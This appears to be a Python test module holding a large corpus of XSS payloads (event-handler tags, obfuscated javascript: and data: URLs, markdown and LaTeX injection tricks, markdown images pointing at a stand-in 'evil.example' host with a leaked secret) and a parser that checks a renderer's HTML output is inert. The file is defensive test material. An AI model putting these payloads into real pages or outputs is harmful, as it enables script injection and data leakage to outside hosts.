"""A corpus of hostile model output, and a checker that an HTML string is inert.

Model output can carry an attacker's text (prompt injection through a web page, a
document or a tool result). Every payload here must come out of the renderer as
visible text or a refused link, never as something the browser runs or fetches.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

RAW_TAGS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    '<img src="x" onerror="window.__pwned=1">',
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<iframe src=javascript:window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    '<a href="javascript:window.__pwned=1">click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "<form action=javascript:window.__pwned=1><input type=submit>",
    "<object data=javascript:window.__pwned=1>",
    "<embed src=javascript:window.__pwned=1>",
    "<base href=javascript:/>",
    '<meta http-equiv=refresh content="0;url=javascript:window.__pwned=1">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/bg.png)">styled</div>',
    "<xss onpointerover=window.__pwned=1>hover</xss>",
    "<video><source onerror=window.__pwned=1></video>",
    "<audio src=x onerror=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>",
    '<table background="https://evil.example/t.png"><tr><td>t</td></tr></table>',
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:window.__pwned=1"><text x=20 y=20>XSS</text></a></svg>',
    "<img src=`x`onerror=window.__pwned=1>",
    "<scr<script>ipt>window.__pwned=1</script>",
    '<!--<img src="--><img src=x onerror=window.__pwned=1//">',
    "<template><img src=x onerror=window.__pwned=1></template>",
    "<textarea></textarea><img src=x onerror=window.__pwned=1>",
    "<title><img src=x onerror=window.__pwned=1></title>",
    "<img srcset=https://evil.example/a.png>",
    "<picture><source srcset=https://evil.example/a.png><img></picture>",
    '<button formaction="javascript:window.__pwned=1">b</button>',
    "<isindex action=javascript:window.__pwned=1 type=submit>",
    "<keygen autofocus onfocus=window.__pwned=1>",
    '<svg><foreignObject><iframe src="javascript:window.__pwned=1"></iframe></foreignObject></svg>',
    "<select autofocus onfocus=window.__pwned=1>",
    '<object type="text/html" data="https://evil.example/x.html"></object>',
    "<img src=https://evil.example/pixel.gif>",
    '<a href="https://ok.example" onclick="window.__pwned=1">link</a>',
    "</p><script>window.__pwned=1</script><p>",
    "<<script>script>window.__pwned=1<</script>/script>",
]

URLS = [
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "java&#x09;script:window.__pwned=1",
    "&#106;avascript:window.__pwned=1",
    "&#x6A;avascript:window.__pwned=1",
    "&#0000106avascript:window.__pwned=1",
    "javascript&colon;window.__pwned=1",
    "jav%0Aascript:window.__pwned=1",
    "javascript://%0Awindow.__pwned=1",
    "%6A%61vascript:window.__pwned=1",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:text/html,<script>parent.__pwned=1</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/javascript,window.__pwned=1",
    "file:///etc/passwd",
    "feed:javascript:window.__pwned=1",
    "//evil.example/x",
    "/api/kernels",
    "blob:https://evil.example/uuid",
    "ws://evil.example/socket",
    "intent://evil#Intent;end",
    "\x01javascript:window.__pwned=1",
    "jav&#x0A;ascript:window.__pwned=1",
]

REMOTE_IMAGES = [
    "![chart](https://evil.example/leak?q=SECRET)",
    "![x](http://evil.example/a.png)",
    '![x](https://evil.example/a.png "title")',
    "![x][pic]\n\n[pic]: https://evil.example/ref.png",
    "[![badge](https://evil.example/badge.svg)](https://ok.example)",
    "| a |\n|---|\n| ![t](https://evil.example/cell.png) |",
    "- item ![i](https://evil.example/li.png)",
    "# Title ![h](https://evil.example/h.png)",
    "> quote ![q](https://evil.example/q.png)",
    "![x](<https://evil.example/angle.png>)",
    "![x](HTTPS://EVIL.EXAMPLE/upper.png)",
    "![x]( https://evil.example/space.png )",
    "![](https://evil.example/noalt.png)",
    "*![em](https://evil.example/em.png)*",
    "**![b](https://evil.example/b.png)**",
]

MARKDOWN_SPECIFIC = [
    '```js" onload="window.__pwned=1\ncode\n```',
    "```<script>window.__pwned=1</script>\ncode\n```",
    "```python onerror=window.__pwned=1\nprint('visible')\n```",
    "| <script>window.__pwned=1</script> | [x](javascript:window.__pwned=1) |\n|---|---|\n"
    "| <img src=x onerror=window.__pwned=1> | b |",
    '[x](https://ok.example "title\\" onmouseover=\\"window.__pwned=1")',
    '[x](https://ok.example "onmouseover=window.__pwned=1")',
    "[a]: javascript:window.__pwned=1\n\n[click][a]",
    "<javascript:window.__pwned=1>",
    '<https://ok.example/" onclick="window.__pwned=1>',
    '[x](https://ok.example/"onmouseover="window.__pwned=1)',
    "- [ ] <img src=x onerror=window.__pwned=1>",
    "Footnote[^1]\n\n[^1]: <script>window.__pwned=1</script>",
    "    <script>indented code is text</script>",
    "`<script>window.__pwned=1</script>`",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "**<img src=x onerror=window.__pwned=1>**",
    "[<img src=x onerror=window.__pwned=1>](https://ok.example)",
    "![<img src=x onerror=window.__pwned=1>](https://evil.example/a.png)",
    "Setext <script>\n===",
    "> <iframe src=javascript:window.__pwned=1>",
]

MATH = [
    "$<img src=x onerror=window.__pwned=1>$",
    "$$\\href{javascript:window.__pwned=1}{x}$$",
    "$\\href{javascript:window.__pwned=1}{click}$",
    "\\(\\url{javascript:window.__pwned=1}\\)",
    "$$\\style{background:url(javascript:window.__pwned=1)}{x}$$",
    "$\\class{cnb-tool-error}{x}$",
    "\\[\\htmlClass{x}{y} \\htmlId{a}{b} \\htmlStyle{color:red}{c} \\htmlData{on=1}{d}\\]",
    "$\\text{<script>window.__pwned=1</script>}$",
    "$\\text{<img src=x onerror=window.__pwned=1>}$",
    "\\(<img src=x onerror=window.__pwned=1>\\)",
    "$$\\mathtip{x}{<img src=x onerror=window.__pwned=1>}$$",
    "$\\toggle{a}{b}\\endtoggle$ $\\require{html}$ $\\unicode{60}script$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\mathcolor{red}{x} \\color{url(javascript:1)}{y}$",
    "$$\\begin{array}{c}<svg onload=window.__pwned=1>\\end{array}$$",
    "$\\operatorname{<iframe src=javascript:window.__pwned=1>}$",
    "$\\frac{a}{\\text{&lt;script&gt;}}$",
    "$x$<img src=x onerror=window.__pwned=1>$y$",
    "$\\mathrm{</math><img src=x onerror=window.__pwned=1>}$",
]


def corpus() -> list[str]:
    payloads = list(RAW_TAGS)
    for url in URLS:
        payloads += [f"[link]({url})", f"![img]({url})", f"<{url}>", f"[ref][u]\n\n[u]: {url}", f'[t]({url} "t")']
    payloads += REMOTE_IMAGES + MARKDOWN_SPECIFIC + MATH
    return payloads


# -- the checker --------------------------------------------------------------------

SCRIPT_CAPABLE = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "semantics",
    "annotation",
    "annotation-xml",
    "maction",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "button",
    "textarea",
    "select",
    "keygen",
    "isindex",
    "template",
    "noscript",
    "video",
    "audio",
    "source",
    "track",
    "picture",
    "image",
    "use",
    "animate",
    "set",
    "foreignobject",
    "marquee",
    "xss",
    "body",
    "html",
    "head",
    "title",
    "portal",
    "canvas",
}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "srcset", "background", "poster", "data", "cite"}
SAFE_HREF = re.compile(r"^(?:https?://|mailto:|#)", re.IGNORECASE)
SAFE_IMG = re.compile(r"^data:image/(?:png|jpeg|jpg|gif|webp);base64,", re.IGNORECASE)


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in SCRIPT_CAPABLE:
            self.problems.append(f"tag <{tag}>")
        if tag == "input" and dict(attrs).get("type") != "checkbox":
            self.problems.append("input that is not a checkbox")
        for name, value in attrs:
            value = value or ""
            if name in ("title", "alt", "href"):
                self.text.append(f" {value} ")  # tooltip, image stand-in, or link target shown on hover
            if name.startswith("on"):
                self.problems.append(f"event handler {name}")
            # Table alignment from markdown, and the saved formula's own hidden MathML copy.
            allowed = r"\s*(?:text-align:\s*(left|right|center)|display:none);?\s*"
            if name == "style" and not re.fullmatch(allowed, value):
                self.problems.append(f"style {value!r}")
            if name in URL_ATTRS:
                compact = re.sub(r"[\x00-\x20]", "", value)
                if name == "href" and not SAFE_HREF.match(compact):
                    self.problems.append(f"href {value!r}")
                elif name == "src" and not (tag == "img" and SAFE_IMG.match(compact)):
                    self.problems.append(f"{tag} src {value!r}")
                elif name not in ("href", "src"):
                    self.problems.append(f"{name} {value!r}")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def problems(fragment: str) -> list[str]:
    scanner = _Scanner()
    scanner.feed(fragment)
    scanner.close()
    return scanner.problems


def visible_text(fragment: str) -> str:
    scanner = _Scanner()
    scanner.feed(fragment)
    scanner.close()
    return html.unescape("".join(scanner.text))


def strip_own_style(snapshot: str) -> str:
    """The snapshot starts with the project's own constant stylesheet; scan the rest."""
    return re.sub(r"^<style>.*?</style>", "", snapshot, count=1, flags=re.DOTALL)
